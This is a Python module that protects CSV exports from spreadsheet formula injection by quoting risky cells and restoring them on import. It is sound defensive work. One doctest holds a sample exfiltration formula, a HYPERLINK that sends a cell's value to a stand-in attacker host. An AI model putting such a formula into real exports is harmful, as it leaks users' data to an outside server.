"""The one way KernteamDB writes CSV: every cell a spreadsheet would take for
a formula is neutralised, in every CSV the product writes (the pool's CSV
files, the audit trail, the evaluation).

A cell is neutralised the OWASP way, with a leading single quote, when it
starts with ``=``, ``+``, ``-`` or ``@`` (after leading whitespace too), or
with a tab or carriage return. The pool's CSV files are also read back
(``csv_exchange``), so the quote must come off again exactly: a value that
itself starts with a quote before such text gets one more quote, and
``restored`` takes exactly one off a cell that starts with a quote before
text that needed one. Export, then import, gives every value back unchanged.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Iterable
from typing import Any

#: What a spreadsheet reads as the start of a formula (after leading whitespace).
FORMULA_STARTS = ("=", "+", "-", "@")
#: Characters that start a formula-like cell even before the whitespace is stripped.
CONTROL_STARTS = ("\t", "\r")
QUOTE = "'"


def needs_quote(text: str) -> bool:
    """Whether ``text`` gets a leading quote in a CSV cell.

    >>> needs_quote("=1+1"), needs_quote("  @SUM(A1)"), needs_quote("\\tx"), needs_quote("Anna")
    (True, True, True, False)
    >>> needs_quote("'=1"), needs_quote("'Anna")
    (True, False)
    """
    if text.startswith(CONTROL_STARTS) or text.lstrip().startswith(FORMULA_STARTS):
        return True
    return text.startswith(QUOTE) and needs_quote(text[1:])


def neutralised(text: str) -> str:
    """``text`` as a cell a spreadsheet shows as text, never runs.

    >>> neutralised('=HYPERLINK("http://evil.example/?"&B2,"Klik")')
    '\\'=HYPERLINK("http://evil.example/?"&B2,"Klik")'
    >>> neutralised("-"), neutralised("Anna"), neutralised("'=x")
    ("'-", 'Anna', "''=x")
    """
    return QUOTE + text if needs_quote(text) else text


def restored(cell: str) -> str:
    """The value a cell written by ``neutralised`` holds (exactly one quote off).

    >>> [restored(neutralised(v)) for v in ("=1", "'=1", "''=1", "'Anna", "Anna", "  -3")]
    ['=1', "'=1", "''=1", "'Anna", 'Anna', '  -3']
    """
    return cell[1:] if cell.startswith(QUOTE) and needs_quote(cell[1:]) else cell


def cell_text(value: Any) -> str:
    """Any value as the text of a cell: None empty, text as it is, anything
    else as JSON (numbers, lists, objects); then neutralised.

    >>> cell_text("=HYPERLINK(1)"), cell_text({"a": 1}), cell_text(None), cell_text(7)
    ("'=HYPERLINK(1)", '{"a": 1}', '', '7')
    """
    if value is None:
        return ""
    return neutralised(value if isinstance(value, str) else json.dumps(value, ensure_ascii=False))


def row_writer(delimiter: str = ",") -> Callable[[Iterable[Any]], str]:
    r"""``row(values)``: one CSV line (``\r\n`` at the end), every cell made
    by ``cell_text``. For exports that stream line by line as well as for
    whole files.

    >>> row = row_writer(";")
    >>> row(["p-1", "=2+3", None, "a;b"])
    'p-1;\'=2+3;;"a;b"\r\n'
    """
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")

    def row(values: Iterable[Any]) -> str:
        buffer.seek(0)
        buffer.truncate()
        writer.writerow([cell_text(v) for v in values])
        return buffer.getvalue()

    return row
